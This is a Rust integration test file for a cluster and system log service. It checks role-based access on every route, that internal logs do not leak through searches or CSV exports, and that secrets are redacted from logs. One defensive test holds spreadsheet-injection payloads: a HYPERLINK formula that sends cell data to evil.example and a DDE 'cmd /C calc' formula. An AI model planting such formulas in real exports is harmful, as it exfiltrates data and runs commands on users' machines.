//! Who may do what, on every route of both APIs; internal cluster logs never reaching a caller
//! without the internal role by any route, search, count, CSV or field selection; and no token,
//! secret or Authorization header in the logs.

use std::io::Write;
use std::sync::{Arc, Mutex};

use devtools::local_token::LocalClaims;
use integration_tests::{
    ApiRequest, CLUSTER_LOG_ROUTES, Caller, LOCAL_SECRET, SYSTEM_LOG_ROUTES, cluster_logs_state,
    invoke, read, register_cluster, sqs_message, system_logs_state,
};
use integration_tests::{stand_ins, system_logs_state_with_waldur};
use lambda_runtime::{Context, LambdaEvent};
use serde_json::{Value, json};
use shared::authorizer::{Authorizer, JwtKeys};
use shared::cluster_logs::ClusterLogsState;
use shared::identity::Role;
use shared::oidc::IssuerKeys;
use shared::waldur::WaldurUsers;

/// The organization that owns the cluster the matrix reads, and one that does not.
const OWNER: &str = "acme";
const OTHER: &str = "globex";
const OWNER_CUSTOMER: &str = "customer of the cluster's organization";
const OTHER_CUSTOMER: &str = "customer of another organization";

/// Everyone a request can come from: nobody, an authenticated caller with neither role nor
/// organization, customers of two organizations, and each role.
fn identities() -> Vec<(&'static str, Caller)> {
    let mut identities = vec![
        ("no identity", Caller::Anonymous),
        ("no role", Caller::nobody()),
        (OWNER_CUSTOMER, Caller::customer_of(OWNER)),
        (OTHER_CUSTOMER, Caller::customer_of(OTHER)),
    ];
    for role in Role::ALL {
        identities.push((role.name(), Caller::with_roles(&[role.name()])));
    }
    identities
}

/// The same caller with a local token instead of API Gateway's claims (how `make dev` works).
fn as_local_token(caller: &Caller) -> Caller {
    match caller {
        Caller::Gateway {
            user,
            roles,
            organization,
        } => {
            let roles: Vec<&str> = roles.iter().map(String::as_str).collect();
            let now = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(0, |elapsed| elapsed.as_secs());
            let mut claims = LocalClaims::new(user, &roles, now, 600);
            if let Some(organization) = organization {
                claims = claims.in_organization("org_id", organization);
            }
            Caller::LocalToken(claims.sign(LOCAL_SECRET, "groups").expect("signed"))
        }
        other => other.clone(),
    }
}

fn draft(summary: &str, internal: bool) -> Value {
    json!({"cluster_uuid": "c-matrix", "cluster_id": "id-matrix", "service_name": "hive", "severity": "Warning",
           "summary": summary, "description": summary, "internal_only": internal})
}

async fn create(state: &ClusterLogsState, body: &Value) -> String {
    let (status, log) = ApiRequest::new("POST", "/cluster_logs", "/cluster_logs")
        .caller(Caller::writer())
        .json(body)
        .send(state)
        .await;
    assert_eq!(status, 201, "{log}");
    log["id"].as_str().expect("an id").to_owned()
}

/// The request of a cluster-log route, aimed at `id` where the route takes one.
fn cluster_request(method: &'static str, route: &str, id: &str) -> ApiRequest {
    match route {
        "/cluster_logs/{id}" => {
            ApiRequest::new(method, route, &format!("/cluster_logs/{id}")).path_parameter("id", id)
        }
        "/clusters/{uuid}/cluster_logs" => {
            ApiRequest::new(method, route, "/clusters/c-matrix/cluster_logs")
                .path_parameter("uuid", "c-matrix")
        }
        "/clusters/cluster_logs" => {
            ApiRequest::new(method, route, route).query("cluster_id", "id-matrix")
        }
        _ => ApiRequest::new(method, route, route),
    }
}

/// What a cluster-log route answers each identity: writers post, admins delete, readers read
/// every cluster, customers read their organization's clusters, and for everybody else those
/// clusters and their logs do not exist.
fn expected_cluster_status(method: &str, route: &str, identity: &str) -> u16 {
    let reads_every_cluster = matches!(identity, "service-logs-reader" | "service-logs-internal");
    match (method, route) {
        _ if identity == "no identity" => 401,
        ("POST", _) if identity == "service-logs-writer" => 201,
        ("POST", _) => 403,
        ("DELETE", _) if identity == "service-logs-admin" => 204,
        ("DELETE", _) => 403,
        (_, "/cluster_logs") if reads_every_cluster => 200,
        (_, "/cluster_logs") => 403,
        _ if reads_every_cluster || identity == OWNER_CUSTOMER => 200,
        _ => 404,
    }
}

/// A cluster-logs table whose matrix cluster (`c-matrix`, `id-matrix`) belongs to [`OWNER`].
async fn matrix_state() -> ClusterLogsState {
    let state = cluster_logs_state().await;
    register_cluster(&state, "c-matrix", "id-matrix", OWNER).await;
    state
}

#[tokio::test]
async fn every_cluster_log_route_answers_each_identity_as_its_roles_and_organization_allow() {
    let state = matrix_state().await;
    let mut checked = 0;
    for (name, deployed) in identities() {
        for caller in [deployed.clone(), as_local_token(&deployed)] {
            for (method, route, function) in CLUSTER_LOG_ROUTES {
                let id = create(&state, &draft("public", false)).await;
                let mut request = cluster_request(method, route, &id).caller(caller.clone());
                if method == "POST" {
                    request = request.json(&draft("posted", false));
                }
                let (status, body) = read(invoke(&state, function, request.build()).await);
                let expected = expected_cluster_status(method, route, name);
                assert_eq!(status, expected, "{name} {method} {route}: {body}");
                if status >= 400 {
                    assert_eq!(body["kind"], "Error", "{name} {method} {route}");
                }
                checked += 1;
            }
        }
    }
    assert_eq!(checked, 9 * 6 * 2);
}

/// The authorization header of `caller` as the platform's issuer would sign it (the stand-in
/// issuer), for the system-log routes' Lambda authorizer.
fn as_issuer_token(caller: &Caller, issuer: &stand_ins::StandIn) -> Option<String> {
    match caller {
        Caller::Gateway {
            user,
            roles,
            organization,
        } => {
            let mut claims =
                json!({"sub": format!("sub-{user}"), "preferred_username": user, "groups": roles});
            if let Some(organization) = organization {
                claims["org_id"] = json!(organization);
            }
            Some(format!(
                "Bearer {}",
                stand_ins::issuer_token(issuer, claims)
            ))
        }
        _ => None,
    }
}

#[tokio::test]
async fn every_system_log_route_answers_each_identity_as_its_roles_allow() {
    let waldur = stand_ins::waldur().await;
    let issuer = stand_ins::issuer().await;
    let state = system_logs_state_with_waldur(&waldur.url, 60).await;
    // Deployed: the authorizer judges, the function (with no local mechanism) answers its verdict.
    let deployed_state = shared::system_logs::SystemLogsState {
        auth: shared::identity::Authenticator::new("groups", None),
        store: state.store.clone(),
    };
    let authorizer = Authorizer::new(JwtKeys::Issuer(
        IssuerKeys::new(&issuer.url, &[stand_ins::ISSUER_AUDIENCE.to_owned()]).unwrap(),
    ))
    .with_waldur(WaldurUsers::new(&waldur.url).unwrap(), 60);
    let record = shared::system_logs::SystemLogRecord::from_json(
        &json!({"created": "2026-11-01T10:00:00Z", "source": "api", "instance": "pod-1",
                "level": "INFO", "logger_name": "waldur", "message": "hello", "context": {}})
        .to_string(),
    )
    .expect("a record");
    let written = state.store.write(vec![("matrix#1".into(), record)]).await;
    let Some(Ok(shared::system_logs::Written::Stored(log))) = written.into_iter().next() else {
        panic!("stored");
    };
    // (identity, its Authorization header or claims, status): the roles' identities, and Waldur's
    // tokens as HomePort sends them.
    let mut identities: Vec<(String, Option<String>, Option<Caller>, u16)> = identities()
        .into_iter()
        .map(|(name, caller)| {
            let expected = match name {
                "no identity" => 401,
                "system-logs-reader" => 200,
                _ => 403,
            };
            (
                name.to_owned(),
                as_issuer_token(&caller, &issuer),
                Some(caller),
                expected,
            )
        })
        .collect();
    for (name, token, expected) in [
        ("Waldur staff", stand_ins::STAFF_TOKEN, 200),
        ("Waldur support", stand_ins::SUPPORT_TOKEN, 200),
        ("Waldur user", stand_ins::USER_TOKEN, 403),
        (
            "token Waldur refuses",
            "1111111111111111111111111111111111111111",
            401,
        ),
        ("Waldur failing", stand_ins::BROKEN_TOKEN, 503),
    ] {
        identities.push((
            name.to_owned(),
            Some(format!("Token {token}")),
            None,
            expected,
        ));
    }
    for (name, authorization, claims, expected) in identities {
        let verdict = functions::system_logs_authorizer::handler(
            &authorizer,
            integration_tests::authorizer_event(authorization.as_deref()),
        )
        .await
        .unwrap();
        let mut ways = vec![(
            "deployed",
            &deployed_state,
            Caller::LambdaAuthorizer(verdict.context),
            None,
        )];
        match &claims {
            Some(caller) => {
                ways.push(("JWT authorizer claims", &state, caller.clone(), None));
                ways.push(("local token", &state, as_local_token(caller), None));
            }
            None => ways.push(("make dev", &state, Caller::Anonymous, authorization.clone())),
        }
        for (way, state, caller, header) in ways {
            for (route, _) in SYSTEM_LOG_ROUTES {
                let path = route.replace("{id}", &log.id.to_string());
                for method in ["GET", "HEAD"] {
                    let mut request =
                        ApiRequest::system(method, route, &path).caller(caller.clone());
                    if route.contains("{id}") {
                        request = request.path_parameter("id", &log.id.to_string());
                    }
                    if let Some(header) = &header {
                        request = request.header("authorization", header);
                    }
                    let answer = request.answer(state).await;
                    assert_eq!(answer.status, expected, "{name} ({way}) {method} {path}");
                }
            }
        }
    }
    assert_eq!(
        waldur.requests_for("/api/users/me/"),
        4 * 2 + (1 + 2 * SYSTEM_LOG_ROUTES.len()),
        "one lookup per definite key per process (the authorizer's and make dev's); a failing Waldur is asked every time"
    );
}

#[tokio::test]
async fn the_contract_and_the_metadata_are_served_to_any_authenticated_caller() {
    let auth = shared::identity::Authenticator::new("groups", Some(LOCAL_SECRET));
    let file = std::fs::read_to_string(integration_tests::workspace_root().join("openapi.yaml"))
        .expect("openapi.yaml");
    for path in [
        "/openapi.yaml",
        "/api/service_logs/v1/openapi",
        "/api/service_logs/v1",
    ] {
        for (name, caller) in identities() {
            for caller in [caller.clone(), as_local_token(&caller)] {
                let anonymous = matches!(caller, Caller::Anonymous);
                let request = ApiRequest::at("GET", path).caller(caller).build();
                let response = functions::openapi_spec::handler(&auth, request)
                    .await
                    .expect("answered");
                if anonymous {
                    assert_eq!(response.status(), 401, "{name} {path}");
                    continue;
                }
                assert_eq!(response.status(), 200, "{name} {path}");
                if path == "/openapi.yaml" {
                    let served = String::from_utf8_lossy(response.body().as_ref()).into_owned();
                    assert_eq!(served, file, "the served contract is the file");
                }
            }
        }
    }
}

/// Every list request a customer could make that might show an internal log, on every list route.
fn probing_lists() -> Vec<ApiRequest> {
    let searches = [
        "",
        "internal_only = 'true'",
        "internal_only = true",
        "internal_only <> 'false'",
        "NOT internal_only = 'false'",
        "internal_only = 'true' OR internal_only = 'false'",
        "summary ILIKE '%secret%'",
        "description LIKE '%SECRET%'",
        "severity IN ('Warning', 'Info')",
        "timestamp >= '1970-01-01T00:00:00Z'",
    ];
    let mut requests = Vec::new();
    for route in [
        "/cluster_logs",
        "/clusters/{uuid}/cluster_logs",
        "/clusters/cluster_logs",
    ] {
        for search in searches {
            for extra in [
                vec![],
                vec![("format", "csv")],
                vec![("fields", "id,summary,internal_only")],
                vec![("orderBy", "severity asc, summary desc")],
                vec![("size", "-1"), ("page", "1")],
            ] {
                let mut request = cluster_request("GET", route, "").query("search", search);
                for (name, value) in extra {
                    request = request.query(name, value);
                }
                requests.push(request);
            }
        }
    }
    requests
}

#[tokio::test]
async fn internal_logs_never_reach_a_caller_without_the_internal_role() {
    let state = matrix_state().await;
    let mut internal_ids = Vec::new();
    for n in 0..3 {
        internal_ids.push(create(&state, &draft(&format!("SECRET-INTERNAL-{n}"), true)).await);
        create(&state, &draft(&format!("public-{n}"), false)).await;
    }
    let mut probes = 0;
    for (name, caller) in identities() {
        if name == "no identity" {
            continue;
        }
        let sees_internal = name == Role::ServiceLogsInternal.name();
        for request in probing_lists() {
            let route_key = request.event()["routeKey"]
                .as_str()
                .unwrap_or_default()
                .to_owned();
            let route = route_key
                .trim_start_matches("GET ")
                .trim_start_matches(shared::cluster_logs::BASE_PATH);
            let function = match route {
                "/clusters/{uuid}/cluster_logs" => "cluster-logs-list-by-uuid",
                "/clusters/cluster_logs" => "cluster-logs-list-by-cluster",
                _ => "cluster-logs-list",
            };
            let answer = invoke(
                &state,
                function,
                request.clone().caller(caller.clone()).build(),
            )
            .await;
            let expected = expected_cluster_status("GET", route, name);
            assert_eq!(answer.status(), expected, "{name}: {route_key}");
            let text = String::from_utf8_lossy(answer.body().as_ref()).into_owned();
            let leaked = text.contains("SECRET-INTERNAL")
                || internal_ids.iter().any(|id| text.contains(id.as_str()));
            if !sees_internal {
                assert!(!leaked, "{name} saw an internal log: {}", request.event());
                if let Ok(list) = serde_json::from_str::<Value>(&text) {
                    assert!(
                        list["total"].as_u64() <= Some(3),
                        "{name} counted internal logs"
                    );
                }
            }
            probes += 1;
        }
        for id in &internal_ids {
            let (status, body) = cluster_request("GET", "/cluster_logs/{id}", id)
                .caller(caller.clone())
                .send(&state)
                .await;
            let expected = if sees_internal { 200 } else { 404 };
            assert_eq!(status, expected, "{name} GET an internal log: {body}");
        }
    }
    // An admin who may not see internal logs cannot delete one either: it does not exist for them.
    let (status, body) = cluster_request("DELETE", "/cluster_logs/{id}", &internal_ids[0])
        .caller(Caller::with_roles(&[Role::ServiceLogsAdmin.name()]))
        .send(&state)
        .await;
    assert_eq!(status, 404, "{body}");
    assert!(probes >= 500, "{probes} probes");
}

/// Everything the functions log, in the deployed format, at the most verbose level the template
/// allows (LogLevel debug).
#[derive(Clone, Default)]
struct CapturedLogs(Arc<Mutex<Vec<u8>>>);

impl Write for CapturedLogs {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0
            .lock()
            .map_err(|_| std::io::Error::other("poisoned"))?
            .extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl CapturedLogs {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().expect("not poisoned")).into_owned()
    }
}

#[tokio::test]
async fn tokens_secrets_and_authorization_headers_never_reach_the_logs() {
    let logs = CapturedLogs::default();
    let writer = logs.clone();
    let _capture =
        tracing::subscriber::set_default(shared::telemetry::subscriber("debug", move || {
            writer.clone()
        }));
    let state = cluster_logs_state().await;
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |elapsed| elapsed.as_secs());
    let good = LocalClaims::new(
        "alice",
        &["service-logs-writer", "service-logs-reader"],
        now,
        600,
    )
    .sign(LOCAL_SECRET, "groups")
    .expect("signed");
    let forged = LocalClaims::new("mallory", &["service-logs-admin"], now, 600)
        .sign("not-the-secret", "groups")
        .expect("signed");
    let secrets = [
        good.clone(),
        forged.clone(),
        stand_ins::STAFF_TOKEN.to_owned(),
        stand_ins::BROKEN_TOKEN.to_owned(),
        "2222222222222222222222222222222222222222".to_owned(),
        LOCAL_SECRET.to_owned(),
        "hunter2-password".to_owned(),
        "tok-3f9a8b7c6d5e".to_owned(),
    ];
    let body_with_secrets = json!({"cluster_uuid": "c-1", "service_name": "hive", "severity": "Info",
        "summary": "rotated", "description": "password=hunter2-password token: tok-3f9a8b7c6d5e"});
    let post = |caller: Caller| {
        ApiRequest::new("POST", "/cluster_logs", "/cluster_logs")
            .caller(caller)
            .json(&body_with_secrets)
    };
    assert_eq!(
        post(Caller::LocalToken(good.clone())).send(&state).await.0,
        201
    );
    assert_eq!(
        post(Caller::LocalToken(forged.clone()))
            .send(&state)
            .await
            .0,
        401
    );
    // Refused bodies whose reasons quote what was sent.
    for bad in [
        json!({"cluster_uuid": "c-1", "service_name": "hive", "summary": "a log", "severity": "password=hunter2-password"}),
        json!({"cluster_uuid": "c-1", "service_name": "hive", "summary": "a log", "severity": "Info", "internal_only": "token: tok-3f9a8b7c6d5e"}),
        json!({"cluster_uuid": "c-1", "service_name": "hive", "summary": "a log", "severity": "Info", "timestamp": "password=hunter2-password"}),
    ] {
        let (status, _) = ApiRequest::new("POST", "/cluster_logs", "/cluster_logs")
            .caller(Caller::LocalToken(good.clone()))
            .json(&bad)
            .send(&state)
            .await;
        assert_eq!(status, 400);
    }
    let search = ApiRequest::new("GET", "/cluster_logs", "/cluster_logs")
        .caller(Caller::LocalToken(good.clone()))
        .query("search", "summary = password=hunter2-password");
    assert_eq!(search.send(&state).await.0, 400);
    let system = system_logs_state().await;
    let answer = ApiRequest::system("GET", "/", "/")
        .caller(Caller::LocalToken(forged.clone()))
        .answer(&system)
        .await;
    assert_eq!(answer.status, 401);
    // Waldur's keys, allowed, refused and unanswered, in-process and through the authorizer.
    let waldur = stand_ins::waldur().await;
    let with_waldur = system_logs_state_with_waldur(&waldur.url, 60).await;
    let authorizer =
        Authorizer::new(JwtKeys::None).with_waldur(WaldurUsers::new(&waldur.url).unwrap(), 60);
    for key in [
        stand_ins::STAFF_TOKEN,
        stand_ins::BROKEN_TOKEN,
        "2222222222222222222222222222222222222222",
    ] {
        let header = format!("Token {key}");
        ApiRequest::system("GET", "/", "/")
            .caller(Caller::Anonymous)
            .header("authorization", &header)
            .answer(&with_waldur)
            .await;
        functions::system_logs_authorizer::handler(
            &authorizer,
            integration_tests::authorizer_event(Some(&header)),
        )
        .await
        .unwrap();
    }
    // Queued messages that are refused, and one that is stored.
    let ingest = functions::cluster_logs_ingest::IngestState {
        store: state.store.clone(),
        service: shared::cluster_logs::ingest::service_identity_from_env(),
    };
    let event = serde_json::from_value(json!({"Records": [
        sqs_message("m-1", &json!({"cluster_uuid": "c-1", "service_name": "hive", "summary": "a log", "severity": "token: tok-3f9a8b7c6d5e"}).to_string()),
        sqs_message("m-2", "password=hunter2-password"),
        sqs_message("m-3", &body_with_secrets.to_string()),
    ]}))
    .expect("an SQS event");
    functions::cluster_logs_ingest::handler(&ingest, LambdaEvent::new(event, Context::default()))
        .await
        .expect("answered");
    let system_ingest = functions::system_logs_ingest::IngestState {
        store: system.store.clone(),
        mapping: Default::default(),
    };
    let event = json!({"Records": [
        sqs_message("s-1", &json!({"source": "api", "instance": "p", "level": "password=hunter2-password"}).to_string()),
        sqs_message("s-2", "token: tok-3f9a8b7c6d5e"),
    ]});
    functions::system_logs_ingest::handler(
        &system_ingest,
        LambdaEvent::new(event, Context::default()),
    )
    .await
    .expect("answered");

    let text = logs.text();
    assert!(
        text.contains("request refused") && text.contains("invalid"),
        "the refusals were logged: {text}"
    );
    for secret in &secrets {
        assert!(
            !text.contains(secret.as_str()),
            "{secret} was logged:\n{text}"
        );
    }
    // Not even a piece of a token: its signature is the part that must stay secret.
    for token in [&good, &forged] {
        let signature = token.rsplit('.').next().unwrap_or_default();
        assert!(!text.contains(signature), "a token signature was logged");
    }
    let header_lines: Vec<&str> = text
        .lines()
        .filter(|line| {
            let line = line.to_lowercase();
            line.contains("bearer ey") || line.contains("\"authorization\"")
        })
        .collect();
    assert!(
        header_lines.is_empty(),
        "an Authorization header was logged: {header_lines:?}"
    );
}

/// A downloaded history opened in a spreadsheet runs no formula a log's author wrote, is saved as
/// a file, and no answer of either API may be sniffed as another type.
#[tokio::test]
async fn downloads_run_no_formulas_and_no_answer_can_be_sniffed() {
    let state = matrix_state().await;
    let mut hostile = draft("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", false);
    hostile["description"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    hostile["service_name"] = json!("+hive");
    create(&state, &hostile).await;
    let csv = cluster_request("GET", "/clusters/{uuid}/cluster_logs", "")
        .caller(Caller::reader())
        .query("format", "csv")
        .respond(&state)
        .await;
    assert_eq!(csv.status(), 200);
    assert_eq!(
        csv.headers()["content-disposition"],
        "attachment; filename=\"cluster_logs.csv\""
    );
    let text = String::from_utf8(csv.body().to_vec()).unwrap();
    let mut rows = csv::Reader::from_reader(text.as_bytes());
    let headers = rows.headers().unwrap().clone();
    let row = rows.records().next().unwrap().unwrap();
    let cell = |name: &str| &row[headers.iter().position(|h| h == name).unwrap()];
    assert_eq!(
        cell("summary"),
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(cell("description"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("service_name"), "'+hive");
    // Every kind of answer: a page, CSV, an error, a refusal, the contract; and system logs'.
    let mut answers = vec![csv];
    for request in [
        cluster_request("GET", "/clusters/{uuid}/cluster_logs", "").caller(Caller::reader()),
        cluster_request("GET", "/cluster_logs/{id}", "no-such-log").caller(Caller::reader()),
        cluster_request("GET", "/cluster_logs", "").caller(Caller::Anonymous),
    ] {
        answers.push(request.respond(&state).await);
    }
    let auth = shared::identity::Authenticator::new("groups", Some(LOCAL_SECRET));
    answers.push(
        functions::openapi_spec::handler(&auth, integration_tests::sample_event("openapi-spec"))
            .await
            .unwrap(),
    );
    for answer in &answers {
        assert_eq!(
            answer
                .headers()
                .get("x-content-type-options")
                .map(|v| v.to_str().unwrap()),
            Some("nosniff"),
            "{}",
            answer.status()
        );
    }
    let system = system_logs_state().await;
    for caller in [
        Caller::with_roles(&["system-logs-reader"]),
        Caller::Anonymous,
    ] {
        let answer = ApiRequest::system("GET", "/", "/")
            .caller(caller)
            .answer(&system)
            .await;
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    }
}

/// A corpus of realistic lines of Waldur's stack (Django, Celery, requests, psycopg, boto,
/// structlog; tests/fixtures/secrets-corpus.py writes it), each holding secrets: stored as a
/// message, as a traceback and as a context value, and passed through the functions' own log
/// redaction, each comes out with no secret and the rest readable.
#[tokio::test]
async fn no_secret_of_the_corpus_survives_and_the_rest_stays_readable() {
    let corpus: Vec<Value> = serde_json::from_str(
        &std::fs::read_to_string(
            integration_tests::workspace_root().join("tests/fixtures/secrets-corpus.json"),
        )
        .unwrap(),
    )
    .unwrap();
    assert!(corpus.len() >= 50);
    let texts = |entry: &Value, key: &str| -> Vec<String> {
        entry[key]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap().to_owned())
            .collect()
    };
    let mut failures = Vec::new();
    for entry in &corpus {
        let text = entry["text"].as_str().unwrap();
        let scrubbed = shared::system_logs::scrub(text);
        for secret in texts(entry, "secrets") {
            if scrubbed.contains(&secret) {
                failures.push(format!("leaks {secret:?}: {scrubbed}"));
            }
        }
        for kept in texts(entry, "kept") {
            if !scrubbed.contains(&kept) {
                failures.push(format!("lost {kept:?}: {scrubbed}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    // Through the write path: each line as the message, the traceback and a context value.
    let state = system_logs_state().await;
    let ingest = functions::system_logs_ingest::IngestState {
        store: state.store.clone(),
        mapping: Default::default(),
    };
    let records: Vec<Value> = corpus
        .iter()
        .enumerate()
        .map(|(n, entry)| {
            let text = entry["text"].as_str().unwrap();
            sqs_message(
                &format!("corpus-{n}"),
                &json!({"created": format!("2026-11-30T10:00:{:02}Z", n % 60), "source": "api",
                        "instance": "waldur-api-1", "level": "ERROR", "logger_name": "corpus",
                        "message": text,
                        "context": {"traceback": text, "extra": {"detail": text}, "args": [text]}})
                .to_string(),
            )
        })
        .collect();
    functions::system_logs_ingest::handler(
        &ingest,
        LambdaEvent::new(
            serde_json::from_value(json!({ "Records": records })).unwrap(),
            Context::default(),
        ),
    )
    .await
    .unwrap();
    let listed = ApiRequest::system("GET", "/", "/")
        .query("page_size", "100")
        .answer(&state)
        .await;
    let stored = listed.body.as_array().unwrap();
    assert_eq!(stored.len(), corpus.len());
    let everything = serde_json::to_string(stored).unwrap();
    for entry in &corpus {
        for secret in texts(entry, "secrets") {
            // As stored, and as JSON escapes it.
            let escaped = serde_json::to_string(&secret).unwrap();
            assert!(
                !everything.contains(&secret) && !everything.contains(escaped.trim_matches('"')),
                "{secret:?} was stored"
            );
        }
    }
    for secret in texts(&corpus[0], "secrets") {
        assert!(!shared::telemetry::redact(corpus[0]["text"].as_str().unwrap()).contains(&secret));
    }
}
